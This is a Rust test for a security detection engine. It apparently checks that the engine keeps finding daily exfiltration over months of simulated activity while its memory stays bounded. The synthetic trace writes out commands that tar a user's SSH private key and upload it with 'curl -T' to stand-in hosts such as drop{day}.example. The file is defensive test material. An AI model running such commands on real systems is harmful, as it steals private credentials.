//! What a host holds is bounded by its windows, however long it is watched.

use std::collections::BTreeSet;

use tollgate_engine::Engine;
use tollgate_trace as trace;

use crate::drive::{policy, redaction, time_of};

/// A shell that lives for months, in which something is stolen every day.
fn months(days: u32) -> String {
    use std::fmt::Write;
    let mut text = String::from("host mac\nday 2026-03-01\nprocess zsh pid=400 platform com.apple.zsh /bin/zsh\n");
    for day in 0..days {
        let date = format!("2026-{:02}-{:02}T", 3 + day / 28, 1 + day % 28);
        let (tar, curl) = (1_000 + day * 2, 1_001 + day * 2);
        for line in [
            format!("fork 400 -> {tar}"),
            format!("exec {tar} platform com.apple.bsdtar /usr/bin/tar cwd=/Users/ana : tar -czf /tmp/{day}.tgz /Users/ana/.ssh/id_rsa"),
            format!("read {tar} /Users/ana/.ssh/id_rsa size=2000"),
            format!("create {tar} /tmp/{day}.tgz"),
            format!("close {tar} /tmp/{day}.tgz modified size=90000"),
            format!("exit {tar}"),
            format!("fork 400 -> {curl}"),
            format!("exec {curl} platform com.apple.curl /usr/bin/curl cwd=/Users/ana : curl -T /tmp/{day}.tgz https://drop{day}.example/"),
            format!("read {curl} /tmp/{day}.tgz size=90000"),
            format!("flow C{day} 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 3s out=91000 in=900 service=ssl"),
            format!("tls C{day} sni=drop{day}.example version=TLSv13 established"),
            format!("exit {curl}"),
        ]
        .iter()
        .enumerate()
        .map(|(second, line)| format!("{date}09:00:{second:02} {line}\n"))
        {
            text.write_str(&line).unwrap();
        }
        // Somebody is at work all day, so that what is past asking is forgotten.
        for hour in 10..24 {
            writeln!(text, "{date}{hour}:30:00 read 400 /etc/hosts size=100").unwrap();
        }
    }
    text
}

#[test]
fn a_lineage_of_months_holds_the_findings_of_its_last_days() {
    let days = 84u32;
    let mut records = trace::parse(&months(days)).unwrap();
    records.sort_by_key(time_of);
    let mut engine = Engine::new(policy(), redaction());
    let (mut found, mut sizes) = (BTreeSet::new(), Vec::new());
    let mut first = None;
    for record in &records {
        let now = time_of(record);
        let first = *first.get_or_insert(now);
        engine.apply(record);
        engine.advance_all(now);
        engine.drain(&mut |decision| {
            found.insert(decision.finding.id);
        });
        let day = usize::try_from(now.since(first).0 / 86_400_000_000_000).unwrap();
        sizes.resize(day + 1, 0);
        sizes[day] = engine.snapshot().len();
    }
    engine.finish(&mut |decision| {
        found.insert(decision.finding.id);
    });
    assert_eq!(found.len(), usize::try_from(days).unwrap());
    let (early, late) = (sizes[20], sizes[80]);
    // A day's end is all that is remembered of an episode.
    assert!(late < early + 60 * 40, "{early} bytes after 20 days, {late} after 80");
}
